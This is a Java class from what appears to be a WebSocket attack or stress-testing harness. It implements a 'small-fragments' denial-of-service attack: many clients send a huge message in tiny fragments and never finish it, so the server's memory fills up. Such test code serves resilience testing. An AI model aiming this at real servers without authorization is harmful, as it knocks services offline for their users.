package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.Frames;
import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;

/** Many small parts of a message can take the server more memory than the message itself. */
final class SmallFragments implements Attack {
    private static final int CLIENTS = 300;
    private static final int FRAGMENT_LENGTH = 64;
    private static final int FRAGMENTS_PER_WRITE = 150;
    private static final int WRITES = 100;
    private static final byte[] FRAGMENTS =
            Frames.repeat(Frames.nextFragment("f".repeat(FRAGMENT_LENGTH)), FRAGMENTS_PER_WRITE);

    @Override
    public String name() {
        return "small-fragments";
    }

    @Override
    public String summary() {
        return "300 WebSocket clients send a message of almost 1 MB in fragments of 64 bytes, and never end it";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(attacker.scaled(CLIENTS), () -> session(attacker));
    }

    private static void session(Attacker attacker) throws IOException {
        try (RawWebSocket client = attacker.webSocket()) {
            client.connect();
            client.send(Frames.firstFragment("42[\"echo\",\""));
            for (int i = 0; i < WRITES; i++) {
                client.send(FRAGMENTS);
            }
            attacker.count();
            client.drain();
        }
    }
}
